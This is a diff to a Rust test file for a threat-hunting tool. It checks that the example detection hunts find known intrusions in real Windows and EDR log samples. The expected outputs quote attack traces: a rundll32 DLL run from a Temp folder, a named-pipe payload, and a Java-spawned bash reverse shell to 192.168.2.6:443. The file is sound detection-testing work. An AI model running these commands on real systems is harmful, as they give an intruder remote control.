@@ -347,3 +347,57 @@ fn sorted_rows_stay_in_order_through_the_steps_after_the_sort() {
         }
     });
 }
+
+/// The example hunts (examples/hunts), each run on the real samples it was written for
+/// (tests/data/corpus and tests/data/windows, origins in their READMEs).
+#[test]
+fn the_example_hunts_find_the_intrusions_in_the_real_samples() {
+    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
+    let t = common::ingest_files(&[root.join("tests/data/windows"), root.join("tests/data/corpus/edr")]);
+    let store = t.store.root().to_str().unwrap().to_string();
+    let run = |hunt: &str| {
+        let (code, out, err) = common::spoor(&[
+            "hunt",
+            root.join("examples/hunts").join(hunt).to_str().unwrap(),
+            "--store",
+            &store,
+            "--format",
+            "csv",
+        ]);
+        assert_eq!(code, 0, "{hunt}: {err}");
+        out.lines().skip(1).map(str::to_string).collect::<Vec<_>>()
+    };
+    // Empire's VBS stager, and mshta running VBScript, each once although Sysmon and Security
+    // both recorded the starts (the mshta sample's Security times are four hours off: its
+    // shipper wrote local time as UTC).
+    assert_eq!(
+        run("windows/script-host-starts-powershell.hunt"),
+        [
+            "2020-09-04T20:09:55.760Z,workstation5.theshire.local,wscript.exe,start,1,true,107",
+            "2020-10-22T06:58:00.462Z,workstation5,mshta.exe,start,1,false,9",
+        ]
+    );
+    let rundll = r"rundll32.exe C:\Users\PEDRO~1.GUS\AppData\Local\Temp\rtcpef.dll,a /p:rtcpef";
+    assert_eq!(
+        run("windows/service-runs-from-temp-or-pipe.hunt"),
+        [
+            format!("2023-08-15T09:56:15.588Z,mkt01.pandalab.com,7045,rtcpef,\"{rundll}\""),
+            format!("2023-08-15T09:56:15.589Z,mkt01.pandalab.com,4697,rtcpef,\"{rundll}\""),
+        ]
+    );
+    assert_eq!(
+        run("windows/named-pipe-impersonation.hunt"),
+        [r"2023-08-16T04:56:15.549Z,mkt01.pandalab.com,\rtcpef,winx64_payload.exe,rundll32.exe"]
+    );
+    assert_eq!(
+        run("windows/script-block-download-cradle.hunt"),
+        [
+            "workstation5.theshire.local,4103,1,2020-09-04T20:10:00.492Z,[New-Object]",
+            "workstation5.theshire.local,4104,1,2020-09-04T20:10:00.327Z,[]",
+        ]
+    );
+    let java = run("java-spawns-shell.hunt");
+    assert_eq!(java.len(), 1, "{java:?}");
+    assert!(java[0].starts_with("2022-05-11T18:10:21.998Z,ubuntu5,from_child,\"bash -c {echo,"), "{java:?}");
+    assert!(java[0].ends_with(",bash -i >& /dev/tcp/192.168.2.6/443 0>&1"), "{java:?}");
+}
